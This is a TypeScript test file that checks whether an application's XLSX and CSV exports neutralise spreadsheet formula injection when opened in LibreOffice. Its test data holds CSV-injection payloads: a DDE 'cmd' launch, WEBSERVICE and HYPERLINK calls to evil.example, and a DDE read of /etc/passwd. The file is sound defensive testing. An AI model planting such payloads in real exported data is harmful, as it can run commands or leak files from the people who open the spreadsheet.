import { spawnSync } from "node:child_process";
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { buffer } from "node:stream/consumers";
import { describe, expect, test } from "vitest";
import { LANGUAGES } from "@/contract/languages";
import { testFolder } from "@/tests/support/folder";
import { writeCsv } from "../../documents/csv";
import type { Table } from "../../documents/table";
import { writeXlsx } from "./export-xlsx";

/* Opens exported tables in LibreOffice, to test them in a real spreadsheet program. */

// Looks for `localc`, because a LibreOffice without Calc has `soffice` but opens no tables.
const isThere = !spawnSync("localc", ["--version"], { stdio: "ignore" }).error;
if (!isThere) {
  console.warn("SKIPPED: no spreadsheet opens the tables (apt install libreoffice-calc)");
}

const BEFORE = ["", " ", "\t", "\r", "\n", "\u00a0", "\u200b", "\ufeff", '"', "'", ";", "x\n"];
const SIGNS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "|", "%", "{="];
const ACTS = [
  "1+1",
  "SUM(C1:C9)",
  'HYPERLINK("http://evil.example/"&A1;"Apri")',
  "cmd|' /C calc'!A0",
  'WEBSERVICE("http://evil.example/")',
  'DDE("soffice";"/etc/passwd";"A1")',
];
const texts = BEFORE.flatMap((before) =>
  SIGNS.flatMap((sign) => ACTS.map((act) => before + sign + act)),
);
const table: Table = {
  name: "ostile",
  sheet: "Ostile",
  columns: [{ title: "Testo" }, { title: "Segno" }],
  rows: texts.map((text, index) => [text, `n${index}`]),
  fixed: 1,
};

/**
 * Converts a file with LibreOffice.
 *
 * @returns the file's formulas, the types of its number cells, its links, and the number of its intact rows (`n0`,
 * `n1`, …)
 */
async function opened(name: string, bytes: Buffer, filter?: string) {
  const folder = await testFolder("spreadsheet");
  writeFileSync(join(folder, name), bytes);
  const profile = `-env:UserInstallation=file://${folder}/profile`;
  const convert = ["--headless", "--convert-to", "fods", "--outdir", folder, join(folder, name)];
  const read = filter ? [`--infilter=${filter}`] : [];
  spawnSync("soffice", [profile, ...read, ...convert], { timeout: 240_000 });
  const xml = readFileSync(join(folder, name.replace(/\.\w+$/, ".fods")), "utf8");
  return {
    formulas: xml.match(/table:formula="[^"]*"/g) ?? [],
    numbers: xml.match(/office:value-type="(?:float|date|currency|percentage)"/g) ?? [],
    links: xml.match(/<text:a /g) ?? [],
    rows: xml.match(/>n\d+</g)?.length,
  };
}

const HARMLESS = { formulas: [], numbers: [], links: [], rows: texts.length };

describe.skipIf(!isThere)(
  `${texts.length} texts that might be formulas`,
  { timeout: 300_000 },
  () => {
    test("texts like formulas are texts in the workbook", async () => {
      const bytes = await buffer(writeXlsx([table], new Date("2026-08-20T10:00:00.000Z")));
      expect(await opened("ostile.xlsx", bytes)).toEqual(HARMLESS);
    });

    test.each(LANGUAGES)("texts like formulas are texts in the table of %s", async (language) => {
      const bytes = await buffer(writeCsv(table, language));
      // Values of LibreOffice's CSV import filter: the code of the separator (59 is ";", 44 is ","), the code of the
      // quotation mark (34), the character set (76 is UTF-8), and the number of the first line.
      const separator = bytes.includes('"Testo";"Segno"') ? 59 : 44;
      const filter = `CSV:${separator},34,76,1`;
      expect(await opened("ostile.csv", bytes, filter)).toEqual(HARMLESS);
    });

    test("the test detects a real formula", async () => {
      const bytes = Buffer.from("=1+1,n0\r\n");
      expect((await opened("ostile.csv", bytes, "CSV:44,34,76,1")).formulas).toHaveLength(1);
    });
  },
);
